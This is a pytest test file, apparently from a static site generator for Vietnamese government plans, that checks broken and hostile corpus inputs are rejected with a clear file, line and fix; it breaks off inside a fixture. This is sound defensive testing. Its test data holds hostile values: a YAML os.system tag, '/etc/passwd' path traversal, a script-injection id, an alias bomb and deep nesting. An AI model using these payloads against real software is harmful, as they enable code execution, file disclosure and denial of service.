"""Issue 5, bad input: broken and hostile corpora are either accepted safely or rejected clearly.

A rejection stops the build before anything is written, names the file and the line or
field, says what is wrong and how to fix it, and reports every error of the run together.
An acceptance normalizes the input (NFD, BOM, CRLF give the very same site as clean UTF-8)
or, for markup and scripts in the text, builds a site where all of it is inert text.

Most cases run in-process (sitegen.pipeline.build, search off); a few run `python build.py`
as a subprocess to check exit statuses and the output folder.
"""
from __future__ import annotations

import codecs
import csv
import errno
import html
import importlib.util
import io
import json
import os
import posixpath
import subprocess
import sys
import time
import tracemalloc
import unicodedata
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import html5lib
import pytest
import yaml

from helpers import (BUILD_PY, MD_A, MD_B, PLAN_A, REPO, YAML_A, YAML_B, copy_real_corpus, cp1258, edit, line_of,
                     run_build, snapshot, write_corpus)
from sitegen.pipeline import BuildError, build
from sitegen.write import OutputError, UnsafePath, write_site

MB = 1024 * 1024


# ---------------------------------------------------------------- helpers


def _rewrite(path: Path, fn: Callable[[str], str]) -> None:
    path.write_text(fn(path.read_text(encoding="utf-8")), encoding="utf-8")


def _drop_line(path: Path, start: str) -> None:
    _rewrite(path, lambda t: "".join(line for line in t.splitlines(keepends=True) if not line.startswith(start)))


def _write_big(path: Path, size: int) -> None:
    """A real (not sparse) file of `size` bytes, written 1 MB at a time."""
    chunk = (b"---\n" + b"x" * (MB - 4))
    with path.open("wb") as f:
        for _ in range(size // MB):
            f.write(chunk)


def _leftovers(out: Path) -> list[str]:
    """Staging or previous-site folders, a swap journal or a standby's log a build left beside the output
    folder (the plan cache, `.site.cache`, the empty lock file, `.site.lock`, and the standby tree,
    `.site.standby`, and the record of its folders found clean, `.site.folders`, are meant to stay: their
    content is checked by the tests that need it)."""
    kept = {f".{out.name}.cache", f".{out.name}.lock", f".{out.name}.standby", f".{out.name}.folders"}
    return sorted(p.name for p in out.parent.iterdir() if p.name.startswith(f".{out.name}.") and p.name not in kept)


def _cache(out: Path) -> dict[str, bytes]:
    """The cache beside the output folder, file by file; the build database by its rows (a build that
    only reads it still updates its shared-memory index, build.sqlite-shm, which holds no row)."""
    import sqlite3

    top = out.parent / f".{out.name}.cache"
    files = {str(p.relative_to(top)): p.read_bytes() for p in sorted(top.rglob("*"))
             if p.is_file() and not p.name.startswith("build.sqlite")}
    if (top / "build.sqlite").exists():
        db = sqlite3.connect(top / "build.sqlite")
        files["build.sqlite rows"] = "\n".join(db.iterdump()).encode()
        db.close()
    return files


def _errors(exc: BuildError) -> list:
    return [p for p in exc.problems if p.severity == "error"]


# ---------------------------------------------------------------- rejected cases


@dataclass(frozen=True)
class Rejected:
    """A broken corpus: how to break it and the error the build must report."""

    id: str
    mutate: Callable[[Path], None]
    file: str  # the file the error names, relative to the corpus' parent
    where: str | Callable[[Path], str]  # the line or field it names ("" for the whole file)
    what: str  # what is wrong
    fix: str  # how to fix it


def _at(rel: str, needle: str, field: str = "") -> Callable[[Path], str]:
    """`line N (field F)` of the line holding `needle` in corpus file `rel` (after the mutation)."""
    def where(root: Path) -> str:
        line = line_of(root / rel, needle)
        return f"line {line} (field {field})" if field else f"line {line}"
    return where


def _duplicate_plan(root: Path) -> None:
    (root / "plans" / "quang-ninh-2020-copy.md").write_bytes((root / MD_A).read_bytes())
    (root / "plans" / "quang-ninh-2020-copy.yaml").write_bytes((root / YAML_A).read_bytes())


def _rename_plan(root: Path, stem: str, ident: str) -> None:
    (root / MD_A).rename(root / "plans" / f"{stem}.md")
    (root / YAML_A).rename(root / "plans" / f"{stem}.yaml")
    edit(root / "plans" / f"{stem}.md", f"id: {PLAN_A}", f'id: "{ident}"')


def _cp1258(root: Path) -> None:
    (root / MD_A).write_bytes(cp1258((root / MD_A).read_text(encoding="utf-8")))


def _symlink_source(root: Path) -> None:
    outside = root.parent / "outside.txt"
    outside.write_text("not part of the corpus", encoding="utf-8")
    (root / "sources" / "link.txt").symlink_to(outside)
    edit(root / MD_A, "source_file: sources/a.txt", "source_file: sources/link.txt")


def _alias_bomb(root: Path) -> None:
    lines = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 10)]
    _rewrite(root / YAML_A, lambda t: t + "\n".join(lines) + "\n")


def _python_tag(root: Path) -> None:
    marker = root.parent / "PWNED"
    edit(root / YAML_A, 'note: ""', f'note: !!python/object/apply:os.system ["touch {marker}"]')


def _long_plan_id(root: Path) -> None:
    _rename_plan(root, "q" + "a" * 90, "q" + "a" * 90)


def _digits_in_quote(digits: str) -> Callable[[Path], None]:
    """The first target's quote and the text both write 100 with other digits (full-width, Arabic-Indic)."""
    def mutate(root: Path) -> None:
        edit(root / MD_A, "Phấn đấu 100%", f"Phấn đấu {digits}%")
        edit(root / YAML_A, '"Phấn đấu 100%', f'"Phấn đấu {digits}%')
    return mutate


TITLE_A = "title: Phòng, chống tệ nạn xã hội năm 2020"

# Issue 11's findings (a tester's hostile inputs): each refused with its file, line or field, what and fix.
REJECTED_11 = [
    Rejected("province-differs-only-by-case", lambda r: edit(r / MD_B, "province: Quảng Ninh", "province: Quảng ninh"),
             f"corpus/{MD_B}", "line 3 (field province)",
             "'Quảng ninh' is written differently from corpus/provinces.yaml, which writes 'Quảng Ninh' (as "
             "corpus/plans/quang-ninh-2020.md does), but both give the page provinces/quang-ninh.html",
             "write the province exactly as 'Quảng Ninh'"),
    Rejected("province-with-a-zero-width-space",
             lambda r: edit(r / MD_B, "province: Quảng Ninh", 'province: "Quảng\u200bNinh"'),
             f"corpus/{MD_B}", "line 3 (field province)", "contains the invisible character U+200B ZERO WIDTH SPACE",
             "delete it"),
    Rejected("full-width-digits-in-a-date", lambda r: edit(r / MD_A, 'issued: "2020-03-05"', 'issued: "２０２０-０３-０５"'),
             f"corpus/{MD_A}", _at(MD_A, "issued:", "issued"), "'２０２０-０３-０５' is not a date",
             "write YYYY-MM-DD with the digits 0-9 (not full-width or other digits)"),
    Rejected("value-of-10-to-the-400", lambda r: edit(r / YAML_A, "value: 100\n", "value: 1" + "0" * 400 + "\n"),
             f"corpus/{YAML_A}", _at(YAML_A, "value: 1000", "targets[0].value"), "is too large",
             "a target value has at most 15 digits. Check the number against the quote"),
    Rejected("yaml-1-1-octal-value", lambda r: edit(r / YAML_A, "value: 100\n", "value: 0100\n"),
             f"corpus/{YAML_A}", _at(YAML_A, "value: 0100"), "0100 starts with 0, so YAML 1.1 reads it as the octal "
             "number 64", 'write 100, or put it in quotes ("0100") if it is text'),
    Rejected("yaml-1-1-octal-deadline", lambda r: edit(r / YAML_A, "deadline: 2020\n", "deadline: 010\n"),
             f"corpus/{YAML_A}", _at(YAML_A, "deadline: 010"), "the octal number 8", "write 10"),
    Rejected("plan-id-over-the-length-limit", _long_plan_id, f"corpus/plans/q{'a' * 90}.md", "line 2 (field id)",
             "is 91 characters long; an id may have at most 80", "shorten it"),
    Rejected("lookup-id-over-the-length-limit",
             lambda r: edit(r / "themes.yaml", "{id: ma-tuy,", "{id: ma-tuy" + "-x" * 40 + ","),
             "corpus/themes.yaml", "line 1 (field [0].id)", "is 86 characters long; an id may have at most 80",
             "shorten it"),
    Rejected("arabic-indic-digits-in-a-quote", _digits_in_quote("١٠٠"), f"corpus/{YAML_A}",
             _at(YAML_A, "value: 100", "targets[0].value"), "100 does not appear in its quote",
             "full-width or Arabic-Indic digits are not read as numbers"),
    Rejected("full-width-digits-in-a-quote", _digits_in_quote("１００"), f"corpus/{YAML_A}",
             _at(YAML_A, "value: 100", "targets[0].value"), "100 does not appear in its quote",
             "must write the number with 0-9"),
    Rejected("right-to-left-override-in-a-title", lambda r: edit(r / MD_A, TITLE_A, 'title: "Phòng \u202e chống"'),
             f"corpus/{MD_A}", _at(MD_A, "title:", "title"),
             "contains the invisible character U+202E RIGHT-TO-LEFT OVERRIDE", "delete it"),
    Rejected("nul-in-a-title", lambda r: edit(r / MD_A, TITLE_A, 'title: "Phòng \\0 chống"'),
             f"corpus/{MD_A}", _at(MD_A, "title:", "title"), "contains the invisible character U+0000",
             "delete it"),
    Rejected("right-to-left-override-in-the-text",
             lambda r: edit(r / MD_A, "# KẾ HOẠCH", "# KẾ HOẠCH \u202e"),
             f"corpus/{MD_A}", _at(MD_A, "# KẾ HOẠCH"), "the text contains the invisible character U+202E",
             "delete it"),
    Rejected("changelog-missing", lambda r: (r / "CHANGELOG.md").unlink(), "corpus/CHANGELOG.md", "",
             "is missing: its first `## ` heading is the data version", "Create it with that heading"),
    Rejected("changelog-without-a-version",
             lambda r: (r / "CHANGELOG.md").write_text("# Changelog\n\nNhiều thay đổi.\n", encoding="utf-8"),
             "corpus/CHANGELOG.md", "", "has no `## ` heading", "e.g. `## 2026.11.1`"),
]

REJECTED = [
    Rejected("missing-required-field", lambda r: _drop_line(r / MD_A, "title:"),
             f"corpus/{MD_A}", "line 2 (field title)", "is missing", "add `title: …`"),
    Rejected("wrong-type-number-as-text", lambda r: edit(r / YAML_A, "value: 1330", 'value: "1.330"'),
             f"corpus/{YAML_A}", _at(YAML_A, 'value: "1.330"', "targets[1].value"), "must be a number",
             'write 1330, not "1.330"'),
    Rejected("wrong-type-list-as-text",
             lambda r: edit(r / MD_A, "title: Phòng, chống tệ nạn xã hội năm 2020", "title: [a, b]"),
             f"corpus/{MD_A}", _at(MD_A, "title: [a, b]", "title"), "must be text, not a list", "in quotes"),
    Rejected("wrong-type-excerpt", lambda r: edit(r / MD_A, "excerpt: false", "excerpt: maybe"),
             f"corpus/{MD_A}", _at(MD_A, "excerpt:", "excerpt"), "must be", "true or false"),
    Rejected("impossible-date", lambda r: edit(r / MD_A, 'issued: "2020-03-05"', "issued: 2021-02-31"),
             f"corpus/{MD_A}", _at(MD_A, "issued:", "issued"), "'2021-02-31' is an impossible date",
             "check the source"),
    Rejected("date-in-another-format", lambda r: edit(r / MD_A, 'issued: "2020-03-05"', "issued: 05/03/2020"),
             f"corpus/{MD_A}", _at(MD_A, "issued:", "issued"), "is not a date", "write YYYY-MM-DD"),
    Rejected("quote-not-in-text",
             lambda r: edit(r / YAML_A, '"Công an tỉnh chủ trì kiểm tra"', '"Công an tỉnh chủ trì thanh tra"'),
             f"corpus/{YAML_A}", _at(YAML_A, "thanh tra", "tasks[0].quote"), "is not found verbatim",
             "Copy it exactly from the .md body"),
    Rejected("quote-across-paragraphs",
             lambda r: edit(r / YAML_A, '"Tổ chức 06 lớp tập huấn cho 1.330 cán bộ"',
                            '"phòng, chống ma túy. 1.2. Tổ chức 06 lớp tập huấn cho 1.330 cán bộ"'),
             f"corpus/{YAML_A}", _at(YAML_A, "ma túy. 1.2.", "targets[1].quote"), "runs across two paragraphs",
             "shorten it"),
    Rejected("value-not-in-quote", lambda r: edit(r / YAML_A, "value: 100\n", "value: 10\n"),
             f"corpus/{YAML_A}", _at(YAML_A, "value: 10\n".strip(), "targets[0].value"),
             "10 does not appear in its quote", "the quote must contain the number"),
    Rejected("value-not-a-finite-number", lambda r: edit(r / YAML_A, "value: 100\n", "value: .nan\n"),
             f"corpus/{YAML_A}", _at(YAML_A, "value: .nan", "targets[0].value"), "must be a number",
             "write 1330"),
    Rejected("unknown-category", lambda r: edit(r / YAML_A, "category: training", "category: trainig"),
             f"corpus/{YAML_A}", _at(YAML_A, "category: trainig", "targets[1].category"),
             "'trainig' is not in corpus/taxonomy.yaml", "use one of communication, training, or add it there"),
    Rejected("unknown-agency", lambda r: edit(r / YAML_A, "agency: Công an tỉnh", "agency: Công an thành phố"),
             f"corpus/{YAML_A}", _at(YAML_A, "agency:", "tasks[0].agency"),
             "'Công an thành phố' is not a name or alias in corpus/agencies.yaml", "add it as an alias"),
    Rejected("two-plans-same-id", _duplicate_plan, "corpus/plans/quang-ninh-2020-copy.md", "line 2 (field id)",
             f"plan id '{PLAN_A}' is already used by corpus/{MD_A}", "Give this plan its own id"),
    Rejected("front-matter-not-opened", lambda r: _rewrite(r / MD_A, lambda t: t[4:]),
             f"corpus/{MD_A}", "line 1", "must start with a '---' line", "'---' line opening the YAML front matter"),
    Rejected("front-matter-not-closed",
             lambda r: _rewrite(r / MD_A, lambda t: t.replace("---\n\n# KẾ HOẠCH", "\n# KẾ HOẠCH")),
             f"corpus/{MD_A}", "line 1", "is not closed", "add a '---' line after its last field"),
    Rejected("front-matter-bad-yaml",
             lambda r: edit(r / MD_A, "doc_type: Kế hoạch", 'doc_type: "Kế hoạch'),
             f"corpus/{MD_A}", _at(MD_A, "issued:"), "YAML syntax error", "Check quoting and indentation"),
    Rejected("front-matter-key-twice",
             lambda r: edit(r / MD_A, "doc_type: Kế hoạch\n", "doc_type: Kế hoạch\ndoc_type: Quyết định\n"),
             f"corpus/{MD_A}", _at(MD_A, "doc_type: Quyết định"), "'doc_type' is given twice", "keep one"),
    Rejected("data-yaml-bad-indentation",
             lambda r: edit(r / YAML_A, "    subject: can_bo\n", "\tsubject: can_bo\n"),
             f"corpus/{YAML_A}", _at(YAML_A, "\tsubject"), "YAML syntax error", "Check quoting and indentation"),
    Rejected("data-yaml-not-a-mapping",
             lambda r: (r / YAML_A).write_text("- t01\n- t02\n", encoding="utf-8"),
             f"corpus/{YAML_A}", "line 1", "must be a YAML mapping", "with targets, commitments, tasks, themes"),
    Rejected("data-file-missing", lambda r: (r / YAML_A).unlink(),
             f"corpus/{YAML_A}", "", "is missing", "use `targets: []`"),
    Rejected("not-utf8-windows-1258", _cp1258, f"corpus/{MD_A}", "line 3", "is not valid UTF-8",
             "re-save it as UTF-8"),
    Rejected("nul-bytes",
             lambda r: (r / YAML_B).write_bytes((r / YAML_B).read_bytes().replace(b"themes:", b"the\x00mes:")),
             f"corpus/{YAML_B}", _at(YAML_B, "the\x00mes:"), "contains NUL bytes",
             "Replace it with the text saved as UTF-8"),
    Rejected("empty-plan-file", lambda r: (r / MD_A).write_bytes(b""),
             f"corpus/{MD_A}", "", "is empty", "fill it in (corpus/README.md says what it holds)"),
    Rejected("empty-lookup-table", lambda r: (r / "themes.yaml").write_bytes(b"\n\n"),
             "corpus/themes.yaml", "", "is empty", "fill it in"),
    Rejected("plan-file-of-50-mb", lambda r: _write_big(r / MD_A, 50 * MB),
             f"corpus/{MD_A}", "", "is 50.0 MB; a corpus file may be at most 5 MB", "Split it"),
    Rejected("source-file-of-50-mb", lambda r: _write_big(r / "sources" / "a.txt", 50 * MB),
             f"corpus/{MD_A}", _at(MD_A, "source_file:", "source_file"), "is 50.0 MB",
             "keep only the plan's text"),
    Rejected("plan-id-with-dot-dot", lambda r: edit(r / MD_A, f"id: {PLAN_A}", 'id: "../../x"'),
             f"corpus/{MD_A}", "line 2 (field id)", "'../../x' is not a valid plan id",
             "use lower-case ASCII letters, digits and single hyphens"),
    Rejected("file-name-with-spaces-and-capitals", lambda r: _rename_plan(r, "Quang Ninh 2020", "Quang Ninh 2020"),
             "corpus/plans/Quang Ninh 2020.md", "line 2 (field id)", "'Quang Ninh 2020' is not a valid plan id",
             "use lower-case ASCII letters"),
    Rejected("file-name-differs-from-id", lambda r: _rename_plan(r, "Quang-Ninh-2020", PLAN_A),
             "corpus/plans/Quang-Ninh-2020.md", "line 2 (field id)",
             f"'{PLAN_A}' differs from the file name 'Quang-Ninh-2020'.md", "rename one of them"),
    Rejected("source-file-outside-corpus",
             lambda r: edit(r / MD_A, "source_file: sources/a.txt", "source_file: ../../etc/passwd"),
             f"corpus/{MD_A}", _at(MD_A, "source_file:", "source_file"),
             "'../../etc/passwd' is not a file inside corpus/", "copy the source into corpus/sources/"),
    Rejected("source-file-absolute-path",
             lambda r: edit(r / MD_A, "source_file: sources/a.txt", "source_file: /etc/passwd"),
             f"corpus/{MD_A}", _at(MD_A, "source_file:", "source_file"), "'/etc/passwd' is not a file inside",
             "give its path relative to corpus/"),
    Rejected("source-file-symlink-out-of-corpus", _symlink_source, f"corpus/{MD_A}",
             _at(MD_A, "source_file:", "source_file"), "'sources/link.txt' is a symbolic link to /",
             "/outside.txt, outside corpus/. The build reads only files inside corpus/: copy the file itself into "
             "corpus/sources/ in place of the link"),
    Rejected("yaml-alias-bomb", _alias_bomb, f"corpus/{YAML_A}", _at(YAML_A, "a1: &a1"),
             "an alias (*a0) is not allowed", "write the value out"),
    Rejected("yaml-python-object-tag", _python_tag, f"corpus/{YAML_A}", _at(YAML_A, "!!python"),
             "could not determine a constructor", "remove the tag"),
    Rejected("yaml-nested-too-deeply", lambda r: (r / YAML_B).write_text("[" * 3000 + "]" * 3000, encoding="utf-8"),
             f"corpus/{YAML_B}", "", "nested too deeply", "flatten it"),
    Rejected("target-id-with-markup",
             lambda r: edit(r / YAML_A, "- id: t01", "- id: 't01\"><script>alert(1)</script>'"),
             f"corpus/{YAML_A}", _at(YAML_A, "- id: 't01", "targets[0].id"), "target ids are t + digits",
             "(t01)"),
    Rejected("lookup-id-with-path", lambda r: edit(r / "themes.yaml", "{id: ma-tuy,", "{id: ../ma-tuy,"),
             "corpus/themes.yaml", "line 1 (field [0].id)", "'../ma-tuy': ids are lower-case ASCII",
             "letters, digits, - and _"),
    Rejected("data-version-with-path", lambda r: edit(r / "CHANGELOG.md", "## 1.2.0", "## ../../1.2.0"),
             "corpus/CHANGELOG.md", "line 3", "'../../1.2.0' is not a data version",
             "must be a version such as 2026.11.1"),
    Rejected("garbled-spot-not-in-text",
             lambda r: edit(r / MD_A, 'text: "tuyên truyềnn"', 'text: "tuyen truyen"'),
             f"corpus/{MD_A}", _at(MD_A, "tuyen truyen", "garbled[0].text"), "does not occur in the plan",
             "noted exactly as the text has them"),
    Rejected("parent-of-the-wrong-type",
             lambda r: edit(r / YAML_A, "deadline: unknown\n    parent: null", "deadline: unknown\n    parent: {a: 1}"),
             f"corpus/{YAML_A}", _at(YAML_A, "parent: {a: 1}", "targets[1].parent"),
             "must be the id of another target", "(t01) or null"),
]


def _third_plan_in_capitals(root: Path) -> None:
    """Two plans of three write the province in capitals: the most used spelling is not the table's."""
    (root / "plans" / "quang-ninh-2022.md").write_text(
        (root / MD_B).read_text(encoding="utf-8").replace("quang-ninh-2021", "quang-ninh-2022"), encoding="utf-8")
    (root / "plans" / "quang-ninh-2022.yaml").write_bytes((root / YAML_B).read_bytes())
    for md in (root / MD_B, root / "plans" / "quang-ninh-2022.md"):
        edit(md, "province: Quảng Ninh", "province: QUẢNG NINH")


def _duplicate_commitment(root: Path) -> None:
    edit(root / YAML_A, "tasks:\n", '  - id: c01\n    kind: no_hotspot\n    quote: "không để hình thành"\ntasks:\n')


def _second_line_of(rel: str, needle: str, field: str = "") -> Callable[[Path], str]:
    """`line N (field F)` of the second line holding `needle` in corpus file `rel`."""
    def where(root: Path) -> str:
        lines = (root / rel).read_text(encoding="utf-8").splitlines()
        line = [n for n, text in enumerate(lines, 1) if needle in text][1]
        return f"line {line} (field {field})" if field else f"line {line}"
    return where


# Issue 20's messages to editors: each names the file and line, says what is wrong and how to fix it.
REJECTED_20 = [
    Rejected("yaml-no-as-a-number", lambda r: edit(r / MD_A, "number: 12/KH-UBND", "number: no"),
             f"corpus/{MD_A}", _at(MD_A, "number: no", "number"), "must be text, but YAML reads no as `false`",
             'put it in quotes (number: "no")'),
    Rejected("yaml-off-in-a-lookup-table-read-by-the-general-reader",  # the anchor makes the event reader give up
             lambda r: edit(r / "themes.yaml", "en: Drugs}", "en: &e Off}"),
             "corpus/themes.yaml", "line 1 (field [0].en)", "must be text, but YAML reads Off as `false`",
             'put it in quotes (en: "Off")'),
    Rejected("dashes-inside-the-front-matter", lambda r: edit(r / MD_A, "doc_type: Kế hoạch\n", "doc_type: Kế hoạch\n---\n"),
             f"corpus/{MD_A}", _second_line_of(MD_A, "---"),
             "this '---' line ends the front matter early: the fields after it (title, issuer, signer, signer_title, "
             "…) are read as the plan's text, up to the '---' on line 31", "Remove this line"),
    Rejected("spaced-dashes-inside-the-front-matter",
             lambda r: edit(r / MD_A, "doc_type: Kế hoạch\n", "doc_type: Kế hoạch\n--- \n"),
             f"corpus/{MD_A}", _at(MD_A, "--- "), "a '---' line inside the front matter ends it early here",
             "remove this line (or, if it is meant to close the front matter, delete the spaces after it"),
    Rejected("dashes-in-a-data-file", lambda r: edit(r / YAML_A, "commitments:", "---\ncommitments:"),
             f"corpus/{YAML_A}", _at(YAML_A, "---"), "a '---' line starts a second YAML document here, but a corpus "
             "file holds one", "remove this line"),
    Rejected("closing-dashes-with-trailing-spaces", lambda r: edit(r / MD_A, "---\n\n# KẾ HOẠCH", "---  \n\n# KẾ HOẠCH"),
             f"corpus/{MD_A}", _at(MD_A, "---  "), "this '---' line, which closes the front matter, has spaces after "
             "it", "delete them (the line must be exactly ---)"),
    Rejected("opening-dashes-with-a-trailing-tab", lambda r: _rewrite(r / MD_A, lambda t: "---\t" + t[3:]),
             f"corpus/{MD_A}", "line 1", "the '---' line opening the front matter has spaces after it",
             "delete them"),
    Rejected("province-in-capitals-in-most-plans", _third_plan_in_capitals, f"corpus/{MD_B}", "line 3 (field province)",
             "'QUẢNG NINH' is written differently from corpus/provinces.yaml, which writes 'Quảng Ninh' (as "
             f"corpus/{MD_A} does)", "write the province exactly as 'Quảng Ninh'"),
    Rejected("target-id-used-twice", lambda r: edit(r / YAML_A, "  - id: t02", "  - id: t01"),
             f"corpus/{YAML_A}", _second_line_of(YAML_A, "id: t01", "targets[1].id"),
             "'t01' is used twice in this plan (first on line 2)", "give each target its own id, e.g. t02"),
    Rejected("target-id-in-capitals", lambda r: edit(r / YAML_A, "  - id: t02", "  - id: T02"),
             f"corpus/{YAML_A}", _at(YAML_A, "id: T02", "targets[1].id"), "'T02': target ids are t + digits",
             "write t02"),
    Rejected("commitment-id-used-twice", _duplicate_commitment, f"corpus/{YAML_A}",
             _second_line_of(YAML_A, "id: c01", "commitments[1].id"),
             "'c01' is used twice in this plan (first on line 30)", "give each commitment its own id, e.g. c02"),
    Rejected("lookup-id-defined-twice", lambda r: edit(r / "taxonomy.yaml", "- id: training", "- id: communication"),
             "corpus/taxonomy.yaml", "line 8 (field [1].id)", "'communication' is defined twice in taxonomy (first on "
             "line 1)", "keep one of the two entries, or give this one an id of its own"),
    Rejected("lookup-id-with-capitals-and-diacritics", lambda r: edit(r / "themes.yaml", "{id: ma-tuy,", "{id: Ma Túy,"),
             "corpus/themes.yaml", "line 1 (field [0].id)", "'Ma Túy': ids are lower-case ASCII letters",
             "write 'ma-tuy' or another such id"),
]


@pytest.mark.parametrize("case", REJECTED + REJECTED_11 + REJECTED_20,
                         ids=[c.id for c in REJECTED + REJECTED_11 + REJECTED_20])
def test_a_broken_corpus_is_rejected_with_file_place_problem_and_fix(tmp_path, case):
    root = write_corpus(tmp_path)
    case.mutate(root)
    out = tmp_path / "site"
    with pytest.raises(BuildError) as exc:
        build(root, out, search=False)
    where = case.where(root) if callable(case.where) else case.where
    found = [p for p in _errors(exc.value) if p.file == case.file and p.where == where]
    assert found, f"no error at {case.file}:{where} among:\n" + "\n".join(map(str, exc.value.problems))
    assert any(case.what in p.message and case.fix in p.message for p in found), "\n".join(map(str, found))
    assert not out.exists() and _leftovers(out) == []


def test_a_province_spelled_otherwise_blames_only_the_plans_that_differ_from_the_table(tmp_path):
    """Two plans of three write QUẢNG NINH: the one written as corpus/provinces.yaml has it is not
    told to change to the spelling most plans use."""
    root = write_corpus(tmp_path)
    _third_plan_in_capitals(root)
    with pytest.raises(BuildError) as exc:
        build(root, tmp_path / "site", search=False)
    assert sorted(p.file for p in _errors(exc.value)) == [f"corpus/{MD_B}", "corpus/plans/quang-ninh-2022.md"]


@pytest.mark.parametrize("mutate, file", [
    (lambda r: edit(r / "taxonomy.yaml", "- id: communication", "- id: communication\n  x: ["), "taxonomy.yaml"),
    (lambda r: edit(r / "themes.yaml", "{id: ma-tuy,", "{id: Ma Túy,"), "themes.yaml"),
    (lambda r: edit(r / "agencies.yaml", "  kind: tinh\n", "  kind: tinh\n  x: [\n"), "agencies.yaml"),
    (lambda r: (r / "units.yaml").write_text("[]\n", encoding="utf-8"), "units.yaml"),
    (lambda r: (r / "subject_families.yaml").unlink(), "subject_families.yaml"),
    (lambda r: (r / "commitments.yaml").write_bytes(b"\xff\n"), "commitments.yaml"),
], ids=["taxonomy-syntax", "themes-bad-id", "agencies-syntax", "units-no-entries", "families-missing",
        "commitments-not-utf8"])
def test_a_broken_lookup_table_is_one_error_not_one_per_use(tmp_path, mutate, file):
    root = write_corpus(tmp_path)
    mutate(root)
    with pytest.raises(BuildError) as exc:
        build(root, tmp_path / "site", search=False)
    assert [p.file for p in _errors(exc.value)] == [f"corpus/{file}"], "\n".join(map(str, exc.value.problems))


def test_a_broken_taxonomy_in_the_real_corpus_is_one_error(tmp_path):
    root = copy_real_corpus(tmp_path)
    _rewrite(root / "taxonomy.yaml", lambda t: t.replace("\n- id:", "\n- id: [", 1))
    with pytest.raises(BuildError) as exc:
        build(root, tmp_path / "site", search=False)
    errors = _errors(exc.value)
    assert [p.file for p in errors] == ["corpus/taxonomy.yaml"], "\n".join(map(str, errors))
    assert not any("use one of ," in p.message for p in exc.value.problems)


def test_a_misspelled_id_is_still_reported_when_every_table_is_sound(tmp_path):
    root = write_corpus(tmp_path)  # the follow-on rule leaves a sound table's references checked
    edit(root / YAML_A, "category: training", "category: trainig")
    with pytest.raises(BuildError) as exc:
        build(root, tmp_path / "site", search=False)
    assert [p.message for p in _errors(exc.value)] == [
        "'trainig' is not in corpus/taxonomy.yaml: use one of communication, training, or add it there."]


def test_there_are_at_least_25_rejected_cases():
    assert len({c.id for c in REJECTED}) == len(REJECTED) >= 25


def test_a_python_tag_is_never_run(tmp_path):
    root = write_corpus(tmp_path)
    _python_tag(root)
    with pytest.raises(BuildError):
        build(root, tmp_path / "site", search=False)
    assert not (tmp_path / "PWNED").exists()


def test_a_50_mb_file_is_rejected_quickly_without_reading_it_into_memory(tmp_path):
    root = write_corpus(tmp_path)
    _write_big(root / MD_A, 50 * MB)
    tracemalloc.start()
    start = time.perf_counter()
    try:
        with pytest.raises(BuildError):
            build(root, tmp_path / "site", search=False)
        elapsed = time.perf_counter() - start
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert elapsed < 5 and peak < 10 * MB, (elapsed, peak)


def test_a_broken_plan_yaml_is_reported_with_its_broken_front_matter(tmp_path):
    root = write_corpus(tmp_path)
    _rewrite(root / MD_A, lambda t: t[4:])
    (root / YAML_A).write_text("targets: [\n", encoding="utf-8")
    with pytest.raises(BuildError) as exc:
        build(root, tmp_path / "site", search=False)
    assert {p.file for p in _errors(exc.value)} == {f"corpus/{MD_A}", f"corpus/{YAML_A}"}


# ---------------------------------------------------------------- all errors together, nothing written


def _three_errors(root: Path) -> None:
    edit(root / MD_A, 'issued: "2020-03-05"', "issued: 2021-02-31")  # plan text, front matter
    edit(root / YAML_B, "category: communication", "category: nowhere")  # another plan's data
    edit(root / "units.yaml", "kind: count", "kind: lots")  # a lookup table


THREE = {(f"corpus/{MD_A}", "issued"), (f"corpus/{YAML_B}", "targets[0].category"),
         ("corpus/units.yaml", "people.kind")}


def test_every_error_of_a_run_is_reported_together(tmp_path):
    root = write_corpus(tmp_path)
    _three_errors(root)
    with pytest.raises(BuildError) as exc:
        build(root, tmp_path / "site", search=False)
    assert {(p.file, p.where.rsplit("field ", 1)[-1].rstrip(")")) for p in _errors(exc.value)} == THREE


def test_the_command_line_reports_all_errors_exits_1_and_leaves_the_site_untouched(tmp_path):
    root = write_corpus(tmp_path)
    out = tmp_path / "site"
    good = run_build(root, out)
    assert good.returncode == 0, good.stderr
    before = snapshot(out)
    assert "index.html" in before and "plans/quang-ninh-2020.html" in before
    _three_errors(root)
    bad = run_build(root, out)
    assert bad.returncode == 1
    lines = [line for line in bad.stderr.splitlines() if line.startswith("ERROR ")]
    assert len(lines) == 3
    assert all(any(f"{file}:" in line and field in line for line in lines) for file, field in THREE)
    assert "Build failed: 3 error(s)" in bad.stderr and "Nothing was written" in bad.stderr
    assert snapshot(out) == before
    assert _leftovers(out) == []


def test_a_failed_in_process_build_leaves_the_previous_site_byte_for_byte(tmp_path):
    root = write_corpus(tmp_path)
    out = tmp_path / "site"
    build(root, out, search=False)
    before = snapshot(out)
    cache_before = _cache(out)
    assert cache_before  # one entry per plan
    mtimes = {p: p.stat().st_mtime_ns for p in out.rglob("*")}
    edit(root / YAML_A, "value: 100\n", "value: 10\n")
    with pytest.raises(BuildError):
        build(root, out, search=False)
    assert snapshot(out) == before
    assert {p: p.stat().st_mtime_ns for p in out.rglob("*")} == mtimes
    assert _leftovers(out) == []
    assert _cache(out) == cache_before  # the failed build's own entries are removed again


def test_a_failure_that_is_not_the_corpus_exits_2_and_says_so(tmp_path):
    blocker = tmp_path / "a-file"
    blocker.write_text("", encoding="utf-8")
    result = run_build(write_corpus(tmp_path), blocker / "site")
    assert result.returncode == 2
    assert result.stderr.startswith("Build failed: ") and "is unchanged" in result.stderr


@pytest.mark.parametrize("rel", ["../escaped.html", "/tmp/escaped.html", "a/../../escaped.html", "a\\..\\x"],
                         ids=["dot-dot", "absolute", "dot-dot-inside", "backslash"])
def test_the_writer_refuses_a_path_out_of_the_site_and_writes_nothing(tmp_path, rel):
    out = tmp_path / "site"
    write_site(out, {"index.html": b"old"})
    with pytest.raises(UnsafePath):
        write_site(out, {"index.html": b"new", rel: b"x"})
    assert {k: v for k, v in snapshot(out).items() if not k.startswith(".")} == {"index.html": b"old"}
    assert not (tmp_path / "escaped.html").exists() and _leftovers(out) == []


# ---------------------------------------------------------------- accepted: normalized input


@pytest.fixture(scope="module")
def clean_site(tmp_path_factory) -> dict[str, bytes]:
    """The tiny corpus, clean UTF-8 NFC with LF ends, built once."""
    base = tmp_path_factory.mktemp("clean")
